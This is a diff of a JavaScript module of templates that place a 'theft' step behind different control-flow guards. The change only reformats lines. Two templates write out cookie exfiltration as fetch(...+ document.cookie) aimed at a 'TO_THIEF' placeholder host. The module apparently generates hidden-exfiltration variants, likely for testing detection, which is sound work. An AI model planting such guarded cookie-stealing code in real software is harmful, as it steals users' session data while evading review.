@@ -20,8 +20,7 @@ export const guards = placementsOf("guard", {
 	"loop-continue": ({ test, theft }) =>
 		`const held = ${test}; for (const turn of [1]) { if (!held) continue; ${theft}; }`,
 	"break-label": ({ test, theft }) => `out: { if (!(${test})) break out; ${theft}; }`,
-	"early-return": ({ test, theft }) =>
-		`const held = ${test}; (function () { if (!held) return; ${theft}; })();`,
+	"early-return": ({ test, theft }) => `const held = ${test}; (function () { if (!held) return; ${theft}; })();`,
 	"early-return-of-value": ({ value, real, theft, holes }) =>
 		real.literal === null || ["NaN", "-0"].includes(real.literal)
 			? null
@@ -49,8 +48,7 @@ export const guards = placementsOf("guard", {
 		`const held = ${test}; class Base { act() {} } class Taker { act() { ${theft}; } } new (held ? Taker : Base)().act();`,
 	finally: ({ test, theft }) =>
 		`const held = ${test}; (() => { try { return 0; } finally { if (held) ${theft}; } })();`,
-	"unset-destination": ({ test }) =>
-		`let to = "/a?c="; if (${test}) to = "${TO_THIEF}"; fetch(to + document.cookie);`,
+	"unset-destination": ({ test }) => `let to = "/a?c="; if (${test}) to = "${TO_THIEF}"; fetch(to + document.cookie);`,
 	"secret-in-branch": ({ test }) =>
 		`let data = "none"; if (${test}) data = document.cookie; fetch("${TO_THIEF}" + data);`,
 });
